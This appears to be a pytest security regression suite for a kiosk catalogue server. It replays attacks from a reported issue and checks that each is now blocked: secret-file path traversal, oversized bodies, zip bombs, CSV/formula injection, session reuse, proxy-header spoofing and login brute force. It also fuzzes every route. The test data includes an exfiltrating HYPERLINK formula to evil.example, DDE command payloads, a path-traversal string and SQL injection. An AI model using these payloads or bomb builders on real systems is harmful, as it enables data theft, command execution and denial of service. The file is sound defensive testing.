"""The attacks of issue 12, each reproduced as it was made against a real server, and what the
server does now; then a fuzz of every route for 500s."""
from __future__ import annotations

import copy
import csv
import hashlib
import io
import itertools
import json
import os
import re
import selectors
import shutil
import socket
import stat
import subprocess
import sys
import time
import zipfile
from urllib.parse import quote

import openpyxl
import pytest
import requests
from formlib import post_form
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from serverkit import ADMIN_PASSWORD, SAMPLE, csrf_of, form_of
from serverlib import free_port
from sqlalchemy import select
from test_server_import import catalogue_state, upload
from test_server_security import PARAMS, all_routes

from sync.server.models import AuditEntry, Kiosk, Organization, Service

ORG_ID = "090bc249-37cb-5329-99fb-569a0ac0ee91"


def publish(client) -> None:
    _html, token = form_of(client, "/admin/publish")
    response = client.post("/admin/publish", data={"csrf_token": token}, follow_redirects=False)
    assert response.status_code == 303


def secret_files(server) -> dict:
    config = server.state.config
    files = [config.session_secret_file, config.signing_key_file, config.database]
    return {path: path.read_bytes() for path in files if path.exists()}  # no SQLite file on PostgreSQL


def assert_feed_carries_no_local_file(server) -> None:
    """Every asset is one of the server's uploads (there are none), none holds a secret's bytes,
    and the feed names no path of the server."""
    secrets = secret_files(server)
    feed_dir = server.state.config.feed_dir
    uploads = server.state.config.uploads_dir
    for asset in sorted((feed_dir / "assets").glob("*")) if (feed_dir / "assets").is_dir() else []:
        data = asset.read_bytes()
        assert data not in secrets.values(), asset
        assert (uploads / asset.name).is_file(), f"{asset.name} is no upload of the server"
    text = (feed_dir / "feed.json").read_text(encoding="utf-8")
    for word in (str(server.data_dir), "_file", "secrets/", "session.secret", "feed-signing", "file:"):
        assert word not in text, word
    client = server.client()
    for data in secrets.values():
        assert client.get(f"/feed/assets/{hashlib.sha256(data).hexdigest()}").status_code == 404


def hostile_catalogue(server) -> dict:
    """The sample catalogue naming the server's secrets in every field that used to be read."""
    data_dir, config = server.data_dir, server.state.config
    doc = json.loads(SAMPLE.read_text(encoding="utf-8"))
    for svc in doc["services"]:
        svc["organization"]["x_logo_file"] = str(config.session_secret_file)
        svc["organization"]["logo"] = str(config.signing_key_file)
        for attr in svc.get("attributes") or []:
            if attr.get("taxonomy_term"):
                attr["taxonomy_term"]["x_icon_file"] = str(config.signing_key_file)
    terms = doc["taxonomy_terms"]
    terms[0]["x_icon_file"] = str(data_dir / "session.secret")  # where the issue found it
    terms[1]["x_icon_url"] = "../secrets/feed-signing.key"
    terms[2]["x_icon_url"] = f"file://{config.session_secret_file}"
    terms[3]["x_icon_url"] = "assets/" + hashlib.sha256(config.signing_key_file.read_bytes()).hexdigest()
    terms[4]["x_icon_file"] = str(config.database)
    return doc


def test_1_an_editor_cannot_publish_a_file_of_the_server(server, editor):
    doc = hostile_catalogue(server)
    response = upload(editor, "catalogue.json", json.dumps(doc).encode("utf-8"))
    assert response.status_code == 200, response.text[:2000]
    with server.state.db.session() as db:
        stored = json.dumps([o.doc for o in db.scalars(select(Organization))])
    assert "x_logo_file" not in stored and "secrets" not in stored
    publish(editor)
    assert_feed_carries_no_local_file(server)


def test_1_old_data_and_form_saves_name_no_file_either(server, editor):
    """A document stored before the fix, with a file reference the form does not show: saving
    the form drops it, and publishing never reads it even before anyone saves."""
    with server.state.db.session() as db:
        org = db.get(Organization, ORG_ID)
        org.doc = dict(copy.deepcopy(org.doc), x_logo_file=str(server.state.config.signing_key_file),
                       logo=str(server.state.config.session_secret_file))
    publish(editor)
    assert_feed_carries_no_local_file(server)
    response = post_form(editor, f"/admin/organizations/{ORG_ID}", f"/admin/organizations/{ORG_ID}", {})
    assert response.status_code == 303, response.text[:1000]
    with server.state.db.session() as db:
        saved = db.get(Organization, ORG_ID).doc
    assert "x_logo_file" not in saved and "logo" not in saved


def test_1_an_upload_of_the_server_is_published(server, editor):
    """The one way a logo file reaches the feed: the server's own uploads, by content hash."""
    logo = b"\x89PNG\r\n\x1a\n" + b"logo" * 10
    sha = hashlib.sha256(logo).hexdigest()
    uploads = server.state.config.uploads_dir
    uploads.mkdir()
    (uploads / sha).write_bytes(logo)
    doc = json.loads(SAMPLE.read_text(encoding="utf-8"))
    for svc in doc["services"]:
        if svc["organization"]["id"] == ORG_ID:
            svc["organization"]["logo"] = f"assets/{sha}"
    assert upload(editor, "catalogue.json", json.dumps(doc).encode("utf-8")).status_code == 200
    publish(editor)
    assert (server.state.config.feed_dir / "assets" / sha).read_bytes() == logo
    assert server.client().get(f"/feed/assets/{sha}").content == logo
    assert_feed_carries_no_local_file(server)


def test_1_secrets_move_out_of_the_data_directory(server):
    """A data directory of the old layout: the secrets move into secrets/ (0700, files 0600)
    on start, unchanged, and one that had been published as an asset is deleted."""
    from sync.server.bootstrap import start

    config = server.state.config
    server.state.db.dispose()
    before = {p.name: p.read_bytes() for p in config.secrets_dir.iterdir()}
    for path in list(config.secrets_dir.iterdir()):
        shutil.move(path, server.data_dir / path.name)
    config.secrets_dir.rmdir()
    leaked = config.feed_dir / "assets" / hashlib.sha256(before["session.secret"]).hexdigest()
    leaked.parent.mkdir(exist_ok=True)
    leaked.write_bytes(before["session.secret"])
    state = start(config)
    try:
        assert {p.name: p.read_bytes() for p in config.secrets_dir.iterdir()} == before
        assert stat.S_IMODE(config.secrets_dir.stat().st_mode) == 0o700
        assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in config.secrets_dir.iterdir())
        assert not any((server.data_dir / name).exists() for name in before)
        assert state.signing_key.public.b64 == server.state.signing_key.public.b64
        assert not leaked.exists()
    finally:
        state.db.dispose()


# ------------------------------------------------------------------------------- 2: body size


class ServerProcess:
    """``kiosk-server run`` in its own process on 127.0.0.1, to measure its memory."""

    def __init__(self, data_dir, database_url=None):
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        env = dict(os.environ, **({"KIOSK_SERVER_DATABASE_URL": database_url} if database_url else {}))
        self.proc = subprocess.Popen([sys.executable, "-m", "sync.server", "--data-dir", str(data_dir),
                                      "--port", str(self.port), "run"], env=env,
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 60
        while True:
            try:
                if requests.get(self.url + "/healthz", timeout=2).status_code == 200:
                    break
            except requests.ConnectionError:
                pass
            assert time.monotonic() < deadline and self.proc.poll() is None, "the server did not start"
            time.sleep(0.2)

    def peak_rss_mb(self) -> float:
        with open(f"/proc/{self.proc.pid}/status", encoding="ascii") as fh:
            kb = next(int(line.split()[1]) for line in fh if line.startswith("VmHWM:"))
        return kb / 1024

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(15)


@pytest.fixture(scope="module")
def server_process(seeded_template, seeded_database, pg_cluster, tmp_path_factory):
    data = tmp_path_factory.mktemp("process") / "data"
    shutil.copytree(seeded_template, data)
    url = pg_cluster.url(pg_cluster.create(seeded_database)) if pg_cluster else None
    process = ServerProcess(data, url)
    yield process
    process.stop()


KIOSKS = itertools.count(1)


def logged_in(url: str) -> tuple[str, str, str]:
    """(Cookie header, CSRF token) of an admin session on the server at ``url``, and the token
    of a new kiosk."""
    session = requests.Session()
    token = csrf_of(session.get(url + "/login", timeout=5).text)
    response = session.post(url + "/login", data={"csrf_token": token, "username": "admin",
                                                  "password": ADMIN_PASSWORD}, timeout=30)
    assert response.status_code == 200
    token = csrf_of(session.get(url + "/admin/import", timeout=5).text)
    page = session.post(url + "/admin/kiosks", data={"csrf_token": token, "name": f"lobby-{next(KIOSKS)}"},
                        timeout=5)
    kiosk_token = re.search(r'token = "(kt_[^"]+)"', page.text).group(1)
    return "; ".join(f"{k}={v}" for k, v in session.cookies.items()), token, kiosk_token


def post_lazily(port: int, path: str, content_type: str, total: int, *, declare_length: bool,
                prefix: bytes = b"", headers: str = "") -> tuple[int, float, int]:
    """POST ``total`` bytes made as they are sent (never held), chunked or with a Content-Length,
    until the server answers. Returns (status, seconds to the answer, bytes sent)."""
    sock = socket.create_connection(("127.0.0.1", port))
    framing = f"Content-Length: {total}" if declare_length else "Transfer-Encoding: chunked"
    sock.sendall(f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {content_type}\r\n"
                 f"{headers}{framing}\r\n\r\n".encode("ascii"))
    block = b"x" * 65536
    sent, start = 0, time.monotonic()
    selector = selectors.DefaultSelector()
    selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
    try:
        while sent < total and time.monotonic() - start < 60:
            events = selector.select(timeout=5)
            if any(mask & selectors.EVENT_READ for _key, mask in events):
                break
            piece = prefix + block if sent == 0 else block
            wire = piece if declare_length else b"%x\r\n%s\r\n" % (len(piece), piece)
            try:
                sock.sendall(wire)
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += len(piece)
        sock.setblocking(True)
        sock.settimeout(10)
        answer = sock.recv(4096)
    finally:
        selector.close()
        sock.close()
    elapsed = time.monotonic() - start
    return int(answer.split(b" ", 2)[1]), elapsed, sent


GB = 1024 ** 3
BOUNDARY = "kiosk-attack"


def file_part(csrf: str = "") -> bytes:
    field = (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{csrf}\r\n'
             if csrf else "")
    return (field + f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.xlsx"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n").encode("ascii")


@pytest.mark.one_engine   # refused before the body is read: no database
@pytest.mark.parametrize("declare_length", [False, True], ids=["chunked", "content-length"])
def test_2_a_1gb_body_is_refused_before_it_costs_memory(server_process, declare_length):
    """No cookie: /login, urlencoded and multipart, and a heartbeat; an admin's import (capped
    at 50 MB, so it is read up to there)."""
    cookie, csrf, kiosk_token = logged_in(server_process.url)
    before = server_process.peak_rss_mb()
    multipart = f"multipart/form-data; boundary={BOUNDARY}"
    cases = [("/login", "application/x-www-form-urlencoded", b"username=admin&password=", "", 5),
             ("/login", multipart, file_part(), "", 5),
             ("/api/heartbeat", "application/json", b'{"kiosk_id": "', f"Authorization: Bearer {kiosk_token}\r\n", 5),
             ("/admin/import", multipart, file_part(csrf), f"Cookie: {cookie}\r\n", 60)]
    for path, content_type, prefix, headers, cap_mb in cases:
        status, seconds, sent = post_lazily(server_process.port, path, content_type, GB, prefix=prefix,
                                            declare_length=declare_length, headers=headers)
        print(f"\n{path} ({'Content-Length' if declare_length else 'chunked'}): {status} after {seconds:.2f} s, "
              f"{sent / 2**20:.1f} MB sent")
        assert status == 413, path
        assert seconds < 10 and sent < cap_mb * 2**20, (path, seconds, sent)
    after = server_process.peak_rss_mb()
    print(f"server peak RSS: {before:.0f} MB before, {after:.0f} MB after four 1 GB bodies")
    assert after - before < 40
    assert requests.get(server_process.url + "/login", timeout=5).status_code == 200


# ------------------------------------------------------------------------------- 3: zip bombs


def bomb_xlsx(admin_template: bytes, mb: int = 1000) -> bytes:
    """The server's own template with its sharedStrings replaced by one string of ``mb`` MB,
    written in 1 MB steps (never held)."""
    source = zipfile.ZipFile(io.BytesIO(admin_template))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for info in source.infolist():
            if info.filename != "xl/sharedStrings.xml":
                bomb.writestr(info.filename, source.read(info))
        with bomb.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                         b'2006/main" count="1" uniqueCount="1"><si><t>')
            block = b"A" * 2**20
            for _ in range(mb):
                member.write(block)
            member.write(b"</t></si></sst>")
    return out.getvalue()


def bomb_zip(mb: int = 1000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        with bomb.open("services.csv", "w", force_zip64=True) as member:
            member.write(b"id,name\n")
            block = b"A" * 2**20
            for _ in range(mb):
                member.write(block)
    return out.getvalue()


@pytest.mark.one_engine   # refused unread: no database
def test_3_a_spreadsheet_bomb_is_refused_unread(server_process):
    cookie, csrf, _kiosk = logged_in(server_process.url)
    session = requests.Session()
    session.headers["Cookie"] = cookie
    template = session.get(server_process.url + "/admin/export/template.xlsx", timeout=10).content
    bombs = {"bomb.xlsx": bomb_xlsx(template), "bomb.zip": bomb_zip()}
    before = server_process.peak_rss_mb()
    for name, data in bombs.items():
        for lang, words in (("sq", "refuzohet"), ("en", "refused")):
            start = time.monotonic()
            response = session.post(server_process.url + f"/admin/import?lang={lang}", timeout=60,
                                    data={"csrf_token": csrf}, files={"file": (name, data)})
            seconds = time.monotonic() - start
            print(f"\n{name} ({len(data) / 2**20:.1f} MB, 1000 MB unpacked): {response.status_code} in {seconds:.2f} s")
            assert response.status_code == 422 and words in response.text, response.text[:3000]
            assert seconds < 5
    after = server_process.peak_rss_mb()
    print(f"server peak RSS: {before:.0f} MB before, {after:.0f} MB after the bombs")
    assert after - before < 40


# ------------------------------------------------------------------------------- 4: formulas in exports

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&B2,"Open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0", "'=already quoted"]


def named_like_formulas(server, editor) -> list[str]:
    with server.state.db.session() as db:
        ids = sorted(db.scalars(select(Service.id)))[:len(FORMULAS)]
    for sid, name in zip(ids, FORMULAS, strict=True):
        response = post_form(editor, f"/admin/services/{sid}", f"/admin/services/{sid}",
                             {"name": name, "description": name})
        assert response.status_code == 303, response.text[:1000]
    with server.state.db.session() as db:
        assert [db.get(Service, sid).name for sid in ids] == FORMULAS
    return FORMULAS


def test_4_exports_carry_no_formula_and_import_back_unchanged(server, editor):
    names = named_like_formulas(server, editor)
    before = catalogue_state(server)
    xlsx = editor.get("/admin/export/catalogue.xlsx").content
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    text_cells = {c.value for c in cells if c.data_type == "s"}
    assert set(names) <= text_cells
    assert upload(editor, "katalogu.xlsx", xlsx).status_code == 200
    assert catalogue_state(server) == before

    package = editor.get("/admin/export/datapackage.zip").content
    archive = zipfile.ZipFile(io.BytesIO(package))
    for member in archive.namelist():
        if member.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(archive.read(member).decode("utf-8"))))
            for value in (v for row in rows for v in row):
                assert not value.startswith(("=", "+", "@", "\t", "\r")) or value.lstrip("+").isdigit(), value
                assert not value.startswith("-") or value[1:].replace(".", "", 1).isdigit(), value
    service_names = {row["name"] for row in csv.DictReader(io.StringIO(archive.read("services.csv").decode()))}
    assert {"'" + n for n in names} <= service_names
    assert upload(editor, "hsds.zip", package).status_code == 200
    assert catalogue_state(server) == before


# ------------------------------------------------------------------------------- 6: sessions


def copy_of(client, app):
    """Another browser (or another worker process's app) with the same cookie."""
    from fastapi.testclient import TestClient

    other = TestClient(app, base_url="http://127.0.0.1")
    for name, value in client.cookies.items():
        other.cookies.set(name, value)
    return other


def test_6_logout_ends_the_session_for_a_copied_cookie_in_every_worker(server, editor):
    from sync.server.app import app_for

    second_worker, second_state = app_for(server.state.config)
    try:
        stolen = copy_of(editor, server.app)
        elsewhere = copy_of(editor, second_worker)
        assert stolen.get("/admin").status_code == 200 and elsewhere.get("/admin").status_code == 200
        _html, token = form_of(editor, "/admin")
        assert editor.post("/logout", data={"csrf_token": token}, follow_redirects=False).status_code == 303
        for client in (editor, stolen, elsewhere):
            response = client.get("/admin", follow_redirects=False)
            assert response.status_code == 303 and response.headers["location"].startswith("/login")
    finally:
        second_state.db.dispose()


def test_6_log_out_everywhere_ends_every_session(server):
    from serverkit import EDITOR_PASSWORD, login

    office, home, phone = server.client(), server.client(), server.client()
    for client in (office, home, phone):
        login(client, "editor", EDITOR_PASSWORD)
    admin = server.client()
    login(admin, "admin", ADMIN_PASSWORD)
    _html, token = form_of(home, "/account/password")
    response = home.post("/account/logout-everywhere", data={"csrf_token": token}, follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"] == "/login"
    for client in (office, home, phone):
        assert client.get("/admin", follow_redirects=False).status_code == 303
    assert admin.get("/admin").status_code == 200  # another account's session goes on
    login(office, "editor", EDITOR_PASSWORD)
    assert office.get("/admin").status_code == 200


# ------------------------------------------------------------------------------- 7: X-Forwarded-For


def behind_proxy(server, peer: str, **config):
    """The app as it runs behind a reverse proxy at ``peer``."""
    from dataclasses import replace

    from fastapi.testclient import TestClient

    server.state.config = replace(server.state.config, trust_proxy_headers=True, **config)
    return TestClient(server.app, base_url="http://127.0.0.1", client=(peer, 40000))


def failed_login_address(server, client, forwarded_for: str) -> str:
    page = client.get("/login")
    client.post("/login", data={"csrf_token": csrf_of(page.text), "username": "editor", "password": "wrong"},
                headers={"X-Forwarded-For": forwarded_for})
    with server.state.db.session() as db:
        return db.scalars(select(AuditEntry.ip).where(AuditEntry.action == "login_failed")
                          .order_by(AuditEntry.id.desc())).first()


@pytest.mark.one_engine   # the address behind the proxy: no database
def test_7_the_client_cannot_choose_its_address_behind_the_proxy(server):
    client = behind_proxy(server, "127.0.0.1")
    # The client wrote 6.6.6.6; the proxy appended the address it saw.
    assert failed_login_address(server, client, "6.6.6.6, 203.0.113.9") == "203.0.113.9"
    assert failed_login_address(server, client, "203.0.113.9") == "203.0.113.9"
    # Two proxies of ours: the right-most address that is neither.
    chain = behind_proxy(server, "10.0.0.2", trusted_proxies=("127.0.0.1", "10.0.0.0/8"))
    assert failed_login_address(server, chain, "6.6.6.6, 203.0.113.9, 10.0.0.7") == "203.0.113.9"
    # A connection that does not come from a trusted proxy: its own address, whatever it writes.
    direct = behind_proxy(server, "198.51.100.7")
    assert failed_login_address(server, direct, "127.0.0.1, 6.6.6.6") == "198.51.100.7"


@pytest.mark.one_engine   # a setting: no database
def test_7_trusted_proxies_setting():
    from sync.server.config import ServerConfigError, load_config

    config = load_config(None, env={"KIOSK_SERVER_TRUSTED_PROXIES": "10.1.2.3, 192.168.0.0/16"})
    assert config.trusted_proxies == ("10.1.2.3/32", "192.168.0.0/16")
    with pytest.raises(ServerConfigError):
        load_config(None, env={"KIOSK_SERVER_TRUSTED_PROXIES": "proxy.example"})


# ------------------------------------------------------------------------------- 8: login throttle


def from_address(server, address: str):
    from fastapi.testclient import TestClient

    return TestClient(server.app, base_url="http://127.0.0.1", client=(address, 40000))


def try_login(client, username: str, password: str):
    page = client.get("/login")
    return client.post("/login", data={"csrf_token": csrf_of(page.text), "username": username,
                                       "password": password}, follow_redirects=False)


def age_attempts(server, seconds: int) -> None:
    """Let ``seconds`` pass for the throttle (and for the audit log, which remembers which wait
    was already noted)."""
    from datetime import timedelta

    from sync.server.models import LoginAttempt

    with server.state.db.session() as db:
        for row in [*db.scalars(select(LoginAttempt)), *db.scalars(select(AuditEntry))]:
            row.at -= timedelta(seconds=seconds)


def test_8_a_stranger_cannot_lock_the_owner_out(server):
    from serverkit import EDITOR_PASSWORD

    stranger, office = from_address(server, "203.0.113.66"), from_address(server, "198.51.100.10")
    limit = server.state.config.login_max_failures
    for _ in range(limit):
        assert try_login(stranger, "editor", "guess").status_code == 401
    blocked = try_login(stranger, "editor", EDITOR_PASSWORD)
    assert blocked.status_code == 429 and 0 < int(blocked.headers["Retry-After"]) <= 30
    assert try_login(office, "editor", EDITOR_PASSWORD).status_code == 303  # the owner is not locked out
    # The stranger's wait grows with each further failure; the owner's login did not reset it.
    waits = [int(blocked.headers["Retry-After"])]
    for _ in range(2):
        age_attempts(server, waits[-1] + 1)
        assert try_login(stranger, "editor", "guess").status_code == 401  # one more guess, wrong
        again = try_login(stranger, "editor", EDITOR_PASSWORD)
        assert again.status_code == 429
        waits.append(int(again.headers["Retry-After"]))
    assert waits[0] < waits[1] < waits[2] <= 15 * 60, waits
    with server.state.db.session() as db:
        actions = list(db.scalars(select(AuditEntry.action).where(AuditEntry.entity_id == "editor")))
    assert actions.count("login_failed") >= limit + 2 and actions.count("login_blocked") >= 3


def test_8_one_address_trying_many_accounts_waits(server):
    sprayer, office = from_address(server, "203.0.113.77"), from_address(server, "198.51.100.10")
    limit = 4 * server.state.config.login_max_failures
    for i in range(limit):
        assert try_login(sprayer, f"user{i}", "Password123").status_code == 401
    assert try_login(sprayer, "admin", ADMIN_PASSWORD).status_code == 429
    assert try_login(office, "admin", ADMIN_PASSWORD).status_code == 303


# ------------------------------------------------------------------------------- 9: heartbeats


def kiosk_token(admin) -> str:
    _html, token = form_of(admin, "/admin/kiosks")
    page = admin.post("/admin/kiosks", data={"csrf_token": token, "name": "lobby-9"})
    return re.search(r'token = "(kt_[^"]+)"', page.text).group(1)


def test_9_hostile_heartbeats_get_a_json_answer_never_a_500(server, admin):
    bearer = {"Authorization": f"Bearer {kiosk_token(admin)}", "Content-Type": "application/json"}
    client = server.client()
    accented = json.dumps({"kiosk_id": "lobby-9", "last_error": "ë" * 3000}, ensure_ascii=False).encode()
    assert 6000 < len(accented) < 16 * 1024
    ok = client.post("/api/heartbeat", headers=bearer, content=accented)
    assert ok.status_code == 200 and ok.json()["ok"] is True  # 6 KB of ë is a good heartbeat
    with server.state.db.session() as db:
        kiosk = db.scalar(select(Kiosk).where(Kiosk.name == "lobby-9"))
        assert kiosk.last_payload["last_error"] == "ë" * 3000 and kiosk.last_error == "ë" * 200
    cases = {b"[" * 8000: 400, b'{"uptime": 1e999}': 400, b'{"uptime": NaN}': 400, b'{"uptime": Infinity}': 400,
             b'{"uptime": 1000000000000000000000000000000}': 400, b'{"uptime_seconds": -1}': 400,
             b'{"catalogue_version": "2"}': 400, b'{"kiosk_id": {"nested": 1}}': 400,
             b'{"x": ' + b"9" * 5000 + b"}": 400, b"\xff\xfe": 400, b'{"a": "' + "ë".encode() * 9000 + b'"}': 413}
    for body, status in cases.items():
        response = client.post("/api/heartbeat", headers=bearer, content=body)
        assert response.status_code == status, (body[:40], response.status_code, response.text[:200])
        assert response.headers["content-type"].startswith("application/json") and response.json()["error"]
    good = client.post("/api/heartbeat", headers=bearer, json={"kiosk_id": "lobby-9", "uptime_seconds": 3600,
                                                               "catalogue_version": 2, "printer": "ok"})
    assert good.status_code == 200
    with server.state.db.session() as db:
        kiosk = db.scalar(select(Kiosk).where(Kiosk.name == "lobby-9"))
        assert (kiosk.uptime_seconds, kiosk.catalogue_version, kiosk.printer_state) == (3600, 2, "ok")


# ------------------------------------------------------------------------------- 10: other 500s


def damaged_zip() -> bytes:
    """A datapackage whose services.csv no longer inflates (zlib.error when read)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("services.csv", "id,name\n" + "x,y\n" * 5000)
    data = bytearray(out.getvalue())
    start = 30 + len("services.csv")  # the member's data, after its local header
    data[start + 5:start + 40] = b"\xff" * 35
    return bytes(data)


def test_10_no_500s_and_the_connection_stays_usable(server_process):
    cookie, csrf, _kiosk = logged_in(server_process.url)
    session = requests.Session()  # one keep-alive connection
    session.headers["Cookie"] = cookie
    huge = "99999999999999999999999"
    for path in (f"/admin/services?page={huge}", f"/admin/audit?page={huge}", "/admin/services?page=-3",
                 f"/services?page={huge}", f"/organizations?per_page={huge}"):
        response = session.get(server_process.url + path, timeout=10)
        assert response.status_code in (200, 400), (path, response.status_code)
        assert session.get(server_process.url + "/admin", timeout=10).status_code == 200  # same connection
    for name in ("hsds.zip", "katalogu.xlsx"):
        response = session.post(server_process.url + "/admin/import", data={"csrf_token": csrf}, timeout=30,
                                files={"file": (name, damaged_zip())})
        assert response.status_code == 422, (name, response.text[:2000])
        assert session.get(server_process.url + "/admin", timeout=10).status_code == 200


def test_10_new_passwords_are_checked_against_common_ones_and_the_user_name(fresh_config, tmp_path):
    from fastapi.testclient import TestClient
    from serverkit import login

    from sync.server.app import app_for

    app, state = app_for(fresh_config(tmp_path / "fresh"))
    try:
        client = TestClient(app, base_url="http://127.0.0.1")
        login(client, "admin", state.first_admin_password)
        _html, token = form_of(client, "/account/password")
        for weak, words in (("abcdabcdab", "lehtë"), ("Password2026!", "zakonshme"), ("qwertyuiop", "zakonshme"),
                            ("admin-Elbasan-1", "emrin e përdoruesit"), ("1234567890", "zakonshme"),
                            ("zzzzzzzzzzzz", "lehtë")):
            response = client.post("/account/password", data={
                "csrf_token": token, "current_password": state.first_admin_password,
                "new_password": weak, "new_password_again": weak})
            assert response.status_code == 422 and words in response.text, weak
        good = "Ura-e-Kaçanikut-44"
        response = client.post("/account/password", follow_redirects=False, data={
            "csrf_token": token, "current_password": state.first_admin_password,
            "new_password": good, "new_password_again": good})
        assert response.status_code == 303
    finally:
        state.db.dispose()


# ------------------------------------------------------------------------------- fuzz: every route

NASTY = ["", "0", "-1", "99999999999999999999999", "1e999", "NaN", "json", "html", "ndjson", "sq", "en", "true",
         "%00", "\x00", "../../etc/passwd", "'; DROP TABLE services; --", "<script>", "ë" * 300, "9" * 5000]
QUERY_KEYS = ["page", "per_page", "q", "search", "format", "lang", "category", "organization", "organization_id",
              "taxonomy_term_id", "taxonomy_id", "parent_id", "top_only", "full", "full_service", "minimal",
              "modified_after", "view", "action", "entity", "next"]
FORM_KEYS = ["name", "name_en", "description", "code", "parent_id", "icon", "order", "status", "organization_id",
             "categories", "locations", "languages", "email", "url", "website", "minimum_age", "maximum_age",
             "assured_date", "latitude", "longitude", "address_1", "city", "phones-0-number", "phones-0-type",
             "schedules-0-days", "schedules-0-opens_at", "schedules-0-closes_at", "schedules-0-where",
             "schedules-99999999999999999999-days", "note", "username", "password", "role", "action", "mode",
             "revision", "back", "current_password", "new_password", "new_password_again", "full_name"]
texts = st.one_of(st.sampled_from(NASTY), st.text(max_size=40),
                  st.integers(min_value=-10**25, max_value=10**25).map(str))


def routes(app) -> list[tuple[str, str]]:
    out = []
    for prefix, route in all_routes(app.routes):
        for method in sorted(getattr(route, "methods", None) or ()):
            if method in ("GET", "HEAD", "POST"):
                out.append((method, prefix + route.path))
    return out


#: Path values for the fuzz: the editor's account (the admin's own would lock the fuzz out).
FUZZ_PARAMS = {**PARAMS, "account_id": "2"}
#: Posts that end the admin's session: fuzzed without a valid CSRF token only.
ENDS_SESSION = ("/logout", "/account/logout-everywhere", "/account/password")


@st.composite
def requests_to(draw, app):
    method, template = draw(st.sampled_from(routes(app)))
    path = template
    for key in re.findall(r"\{(\w+)\}", template):
        value = draw(st.one_of(st.just(FUZZ_PARAMS.get(key, "1")), texts.filter(lambda t: t and "/" not in t)))
        path = path.replace("{" + key + "}", quote(value, safe=""))
    query = draw(st.dictionaries(st.sampled_from(QUERY_KEYS), texts, max_size=3))
    body = {}
    if method == "POST":
        body = draw(st.one_of(
            st.builds(lambda d: {"data": d}, st.dictionaries(st.sampled_from(FORM_KEYS), texts, max_size=6)),
            st.builds(lambda b: {"content": b, "headers": {"content-type": "application/json"}},
                      st.sampled_from([b"[" * 3000, b'{"uptime": 1e999}', b"{}", b"null", b"\xff"])),
            st.builds(lambda f: {"files": {"file": ("x.xlsx", f)}},
                      st.sampled_from([b"PK\x03\x04", b"", b"{}", damaged_zip()]))))
    return method, path, query, body, draw(st.booleans()), draw(st.booleans())


def test_fuzz_every_route_never_answers_500(server, admin):
    """Random paths, queries and bodies on every route, as admin (with the right CSRF token or
    without) and anonymously (from another address); the TestClient raises on any server error,
    and none may answer 500. A fixed seed, 300 examples in about 8 s; ``make stress`` runs 3,000."""
    fuzz_every_route(server, admin, 300)


@pytest.mark.stress
@pytest.mark.timeout(0)
def test_fuzz_every_route_long(server, admin):
    """``make stress``: the same fuzz with 3,000 examples (KIOSK_FUZZ_EXAMPLES)."""
    fuzz_every_route(server, admin, int(os.environ.get("KIOSK_FUZZ_EXAMPLES", "3000")))


def fuzz_every_route(server, admin, examples: int) -> None:
    from fastapi.testclient import TestClient
    from serverkit import login

    anonymous = TestClient(server.app, base_url="http://127.0.0.1", client=("203.0.113.5", 40000))
    token = [form_of(admin, "/admin")[1]]

    @settings(max_examples=examples, deadline=None, derandomize=True, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    @given(requests_to(server.app))
    def one(request):
        method, path, query, body, as_admin, with_token = request
        client = admin if as_admin else anonymous
        if "data" in body and as_admin and with_token and path not in ENDS_SESSION:
            body = {"data": {**body["data"], "csrf_token": token[0]}}
        response = client.request(method, path, params=query, follow_redirects=False, **body)
        assert response.status_code < 500, (method, path, query, response.text[:500])
        if as_admin and response.headers.get("location", "").startswith("/login"):
            login(admin, "admin", ADMIN_PASSWORD)  # a fuzzed form ended the session: back in
            token[0] = form_of(admin, "/admin")[1]

    one()
